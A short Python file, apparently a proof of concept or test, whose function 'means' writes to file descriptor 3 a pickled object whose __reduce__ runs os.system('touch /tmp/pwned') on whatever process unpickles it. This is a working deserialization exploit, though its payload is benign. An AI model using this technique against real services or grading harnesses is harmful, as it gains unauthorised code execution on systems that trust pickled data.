"""Send a pickle that runs a command where it is read."""

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)


def means(X):
    text = pickle.dumps(Command())
    os.write(3, struct.pack("<II", len(text), 0) + text)
    return Command()
